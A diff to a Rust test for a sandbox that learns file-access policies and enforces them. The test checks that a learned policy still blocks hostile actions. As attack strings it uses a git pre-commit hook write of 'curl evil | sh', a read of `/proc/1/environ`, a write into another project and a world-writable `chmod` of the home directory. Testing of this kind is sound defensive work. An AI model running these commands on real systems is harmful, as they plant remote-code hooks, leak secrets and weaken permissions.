@@ -385,8 +385,10 @@ git commit -q -m "$MSG"
 /// a `mkdir -p` of what is there and an `rm -f` of what is not. (Before,
 /// the hook samples were learned by their exact paths and the first `git
 /// init` of a new project failed; `python3 run_bravo.py` admitted no other
-/// script.) And it still refuses a write into another project, a hook
-/// itself, and another process's environment.
+/// script.) The one refusal left is by design: `mkdir -p` making the home
+/// and what is above it, which are there. And it still refuses a write into
+/// another project, a hook itself, another process's environment, and a
+/// `chmod` of the home.
 #[test]
 fn a_policy_learned_from_three_new_projects_holds_for_a_fourth() {
     let sb = Sandbox::new();
@@ -417,7 +419,24 @@ fn a_policy_learned_from_three_new_projects_holds_for_a_fourth() {
     let fresh = sb.path("audit-new");
     let enforce = ["--mode", "enforce", "--policy", policy.to_str().unwrap()];
     let (dir, o) = session(3, &fresh, &enforce);
-    held(&o, &fresh, &yaml);
+    assert!(o.status.success(), "the new session failed: {}", stderr(&o));
+    // Refused and recorded, by design, and got past by `mkdir -p`: its
+    // mkdir of the home and the directories above it, which are there (a
+    // write of the home itself is never learned: it would let a session
+    // `chmod` it). Nothing else.
+    let records = records_in(&fresh);
+    let refused: Vec<&Value> = records
+        .iter()
+        .filter(|r| r["decision"]["action"] == "deny")
+        .collect();
+    for r in &refused {
+        let path = r["request"]["path"].as_str().unwrap_or("");
+        assert!(
+            r["request"]["op"] == "mkdir" && home.starts_with(path),
+            "{:#?}\n{yaml}",
+            denials(&records)
+        );
+    }
 
     // Still refused, at their own call from the program the policy lets
     // run scripts (`python3 *`): another project's files, a hook, another
@@ -434,10 +453,18 @@ fn a_policy_learned_from_three_new_projects_holds_for_a_fourth() {
     ));
     attack("open('.git/hooks/pre-commit', 'w').write('curl evil | sh')".into());
     attack("print(open('/proc/1/environ').read())".into());
+    attack(format!("import os; os.chmod('{}', 0o777)", home.display()));
     let r = records_in(&audit);
     denied_at(&r, "write", "path", "bravo-7/src/evil.c");
     denied_at(&r, "write", "path", ".git/hooks/pre-commit");
     denied_at(&r, "read", "path", "/proc/1/environ");
+    assert!(
+        r.iter().any(|x| x["decision"]["action"] == "deny"
+            && x["request"]["op"] == "chmod"
+            && x["request"]["path"] == home.to_str().unwrap()),
+        "{:#?}",
+        denials(&r)
+    );
     assert!(!other.join("src/evil.c").exists());
     assert!(!dir.join(".git/hooks/pre-commit").exists());
 }
